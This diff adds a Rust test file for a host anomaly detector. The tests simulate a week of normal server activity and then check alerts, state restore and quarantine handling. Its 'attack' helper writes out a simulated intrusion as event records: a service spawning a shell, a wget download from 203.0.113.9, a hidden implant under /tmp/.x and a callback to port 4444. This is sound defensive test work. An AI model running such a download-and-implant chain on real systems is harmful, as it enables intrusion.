@@ -1,0 +1,274 @@
+//! A made-up host that is learned for a week, and then judged: what is planted, what
+//! repeats, what is saved.
+
+use std::fmt::Write;
+
+use sentinel_baseline::{Anomaly, Baseline, Config, Delivery, LoadError, Phase};
+use sentinel_event::Event;
+
+const DAY: u64 = 86_400;
+
+/// Lines of events, in the order of time.
+#[derive(Default)]
+struct Host {
+    lines: Vec<(u64, String)>,
+    pid: u64,
+}
+
+impl Host {
+    fn new() -> Host {
+        let mut host = Host {
+            pid: 100,
+            ..Host::default()
+        };
+        host.line(
+            0,
+            r#""kind":"exec","pid":1,"ppid":0,"exe":"/usr/lib/systemd/systemd","argv":["init"]"#,
+        );
+        for (pid, name) in [(10, "sshd"), (11, "cron"), (12, "app")] {
+            host.line(1, &format!(r#""kind":"fork","pid":1,"child":{pid}"#));
+            host.line(1, &format!(
+                r#""kind":"exec","pid":{pid},"ppid":1,"exe":"/usr/sbin/{name}","argv":["{name}"],"unit":"{name}.service","uid":0"#
+            ));
+        }
+        host
+    }
+
+    fn line(&mut self, second: u64, rest: &str) {
+        self.lines.push((second, rest.to_owned()));
+    }
+
+    /// A program under a parent, ended after a second.
+    fn run(&mut self, second: u64, parent: u64, exe: &str, arguments: &str) -> u64 {
+        self.pid += 1;
+        let pid = self.pid;
+        self.line(
+            second,
+            &format!(r#""kind":"fork","pid":{parent},"child":{pid}"#),
+        );
+        self.line(second, &format!(
+            r#""kind":"exec","pid":{pid},"ppid":{parent},"exe":"{exe}","argv":["{exe}","{arguments}"]"#
+        ));
+        pid
+    }
+
+    fn connect(&mut self, second: u64, pid: u64, addr: &str, port: u16) {
+        self.line(
+            second,
+            &format!(r#""kind":"connect","pid":{pid},"addr":"{addr}","port":{port}"#),
+        );
+    }
+
+    /// What goes on every day.
+    fn day(&mut self, day: u64) {
+        for minute in 0..1_440 {
+            let at = day * DAY + minute * 60 + 5 + (minute * 7) % 50;
+            if minute % 5 == 0 {
+                let check = self.run(at, 11, "/usr/local/bin/check", "all");
+                self.run(at + 1, check, "/usr/bin/df", "-P");
+                self.run(at + 1, check, "/usr/bin/free", "-m");
+                self.connect(at + 2, check, "10.0.0.5", 9091);
+            }
+            let work = (9 * 60..17 * 60).contains(&minute);
+            if work && minute % 3 == 0 {
+                let tools = ["ls", "cat", "grep", "git", "vim", "less", "make", "find"];
+                let tool = tools[((minute * minute + day) % 8) as usize];
+                self.run(
+                    at,
+                    10,
+                    &format!("/usr/bin/{tool}"),
+                    &format!("file{minute}"),
+                );
+            }
+            if minute % 4 == 1 {
+                self.connect(at, 12, "127.0.0.1", 5_432);
+            }
+            if work && (minute * 31 + day * 17).is_multiple_of(97) {
+                // Somebody tries a tool that is new here.
+                let letter = |n: u64| char::from(b'a' + (n % 26) as u8);
+                let name: String = [minute, day, minute / 26].into_iter().map(letter).collect();
+                self.run(at, 10, &format!("/usr/bin/x{name}"), "--help");
+            }
+        }
+    }
+
+    /// Something that a service never did: a shell, tools, a download, a new program.
+    fn attack(&mut self, at: u64) {
+        let shell = self.run(at, 12, "/usr/bin/dash", "-c");
+        self.run(at + 5, shell, "/usr/bin/whoami", "");
+        let fetch = self.run(at + 10, shell, "/usr/bin/wget", "http://203.0.113.9/x");
+        self.connect(at + 11, fetch, "203.0.113.9", 80);
+        let implant = self.run(at + 20, shell, "/tmp/.x/y", "");
+        self.connect(at + 21, implant, "203.0.113.9", 4_444);
+    }
+
+    fn events(mut self) -> Vec<Event> {
+        self.lines.sort_by_key(|(second, _)| *second);
+        let mut text = String::new();
+        for (second, rest) in self.lines {
+            let (day, of_day) = (second / DAY, second % DAY);
+            let (hour, minute, second) = (of_day / 3_600, of_day / 60 % 60, of_day % 60);
+            let day = day + 2;
+            let _ = writeln!(
+                text,
+                r#"{{"time":"2026-03-{day:02}T{hour:02}:{minute:02}:{second:02}Z",{rest}}}"#
+            );
+        }
+        let (events, report) =
+            sentinel_import::read_all(text.as_bytes()).expect("memory can be read");
+        assert_eq!(report.bad, []);
+        events
+    }
+}
+
+fn begin_of(day: u64) -> i64 {
+    // 2026-03-02 is a Monday.
+    1_772_409_600_000_000_000 + (day * DAY) as i64 * 1_000_000_000
+}
+
+/// Learns until the eighth day, and detects from then on.
+fn watch(baseline: &mut Baseline, events: &[Event]) -> Vec<Anomaly> {
+    let mut found = Vec::new();
+    for event in events {
+        let phase = match event.time_ns < begin_of(7) {
+            true => Phase::Learn,
+            false => Phase::Detect,
+        };
+        baseline.set_phase(phase);
+        baseline.observe(event, &mut found);
+    }
+    found
+}
+
+fn alerts(found: &[Anomaly]) -> Vec<&Anomaly> {
+    found
+        .iter()
+        .filter(|anomaly| anomaly.delivery == Delivery::Alert)
+        .collect()
+}
+
+/// Days with what goes on every day, and an attack on some.
+fn weeks(days: u64, attacks: &[u64]) -> Vec<Event> {
+    let mut host = Host::new();
+    for day in 0..days {
+        host.day(day);
+        if attacks.contains(&day) {
+            host.attack(day * DAY + 50_000);
+        }
+    }
+    host.events()
+}
+
+#[test]
+fn an_attack_is_told_in_words_and_normal_days_are_quiet() {
+    let found = watch(&mut Baseline::new(Config::default()), &weeks(12, &[9]));
+    let alerts = alerts(&found);
+    let about = |anomaly: &&&Anomaly| {
+        (begin_of(9) + 49_000_000_000_000..begin_of(9) + 52_000_000_000_000)
+            .contains(&anomaly.time_ns)
+    };
+    let attack = alerts.iter().find(about).expect("the attack is told");
+    let words = attack.summary() + &attack.reason();
+    assert!(words.contains("under app: 0 of"), "{words}");
+    assert!(
+        words.contains("first connection ever by") || words.contains("never ran here before"),
+        "{words}"
+    );
+    assert!(
+        attack.worst().notes.len() >= 3 && attack.generation >= 3,
+        "{words}"
+    );
+    assert!(attack.worst().p < 1e-2 && attack.per_day < 0.3);
+    let false_alerts = alerts.len() - alerts.iter().filter(about).count();
+    assert!(
+        false_alerts <= 5,
+        "{false_alerts} false alerts in five days"
+    );
+}
+
+#[test]
+fn what_was_planted_once_while_learning_is_told_all_the_same() {
+    let found = watch(&mut Baseline::new(Config::default()), &weeks(10, &[3, 8]));
+    let on = |day: u64| {
+        found
+            .iter()
+            .filter(move |a| (begin_of(day)..begin_of(day + 1)).contains(&a.time_ns))
+    };
+    assert!(
+        on(8).any(|anomaly| anomaly.delivery == Delivery::Alert),
+        "the second time is told"
+    );
+    assert!(
+        found
+            .iter()
+            .all(|a| a.time_ns >= begin_of(7) || a.delivery == Delivery::Preview),
+        "learning alerts nothing"
+    );
+}
+
+#[test]
+fn it_goes_on_where_it_was_saved() {
+    let events = weeks(9, &[8]);
+    let half = events.partition_point(|event| event.time_ns < begin_of(5) + 3_600_000_000_000);
+    let mut whole = Baseline::new(Config::default());
+    watch(&mut whole, &events);
+    let mut first = Baseline::new(Config::default());
+    watch(&mut first, &events[..half]);
+    let mut second = Baseline::new(Config::default());
+    second.restore(&first.to_bytes()).expect("is whole");
+    assert_eq!(second.standing(), first.standing());
+    let found = watch(&mut second, &events[half..]);
+    assert!(
+        !alerts(&found).is_empty(),
+        "the attack is told after a restart"
+    );
+    let (a, b) = (whole.standing(), second.standing());
+    assert_eq!((a.generation, a.programs), (b.generation, b.programs));
+    assert_eq!(second.progress().missing, whole.progress().missing);
+}
+
+#[test]
+fn what_is_not_whole_is_refused() {
+    let mut learned = Baseline::new(Config::default());
+    watch(&mut learned, &weeks(2, &[]));
+    let bytes = learned.to_bytes();
+    let refused = |bytes: &[u8]| {
+        Baseline::new(Config::default())
+            .restore(bytes)
+            .expect_err("is refused")
+    };
+    assert_eq!(refused(b"nonsense"), LoadError::Malformed);
+    assert_eq!(refused(&bytes[..bytes.len() - 1]), LoadError::Checksum);
+    let changed = |at: usize| {
+        let mut bytes = bytes.clone();
+        bytes[at] ^= 1;
+        bytes
+    };
+    assert_eq!(refused(&changed(8)), LoadError::Version { found: 0 });
+    assert_eq!(refused(&changed(12)), LoadError::Columns);
+    assert_eq!(refused(&changed(bytes.len() / 2)), LoadError::Checksum);
+}
+
+#[test]
+fn a_program_shows_when_it_runs_and_who_starts_it() {
+    let mut baseline = Baseline::new(Config::default());
+    watch(&mut baseline, &weeks(4, &[]));
+    let found = baseline.portraits("/usr/local/bin/check");
+    let [check] = &found[..] else {
+        panic!("{found:?}");
+    };
+    assert_eq!((check.runs, check.days), (4 * 288, 4));
+    assert_eq!(check.parents[0], ("/usr/sbin/cron".to_owned(), 4 * 288));
+    assert_eq!(check.networks[0], ("10.0.0.0/24".to_owned(), 4 * 288));
+    assert_eq!(check.ports[0], ("9091".to_owned(), 4 * 288));
+    assert!(check.hours.iter().all(|hour| *hour > 0.8), "{check:?}");
+    let ls = &baseline.portraits("/usr/bin/ls")[0];
+    assert!(ls.hours[3] == 0.0 && ls.hours[12] > 0.0, "{ls:?}");
+    // A tool that was tried on the third day waits to become normal, until it is allowed.
+    let waiting = baseline.quarantine();
+    let one = waiting.first().expect("something waits").clone();
+    assert!(one.words.contains(" starts "), "{one:?}");
+    assert_eq!(baseline.approve(&one.id), Some(one.words.clone()));
+    assert!(baseline.quarantine().iter().all(|other| other.id != one.id));
+    assert_eq!(baseline.approve(&one.id), None);
+}
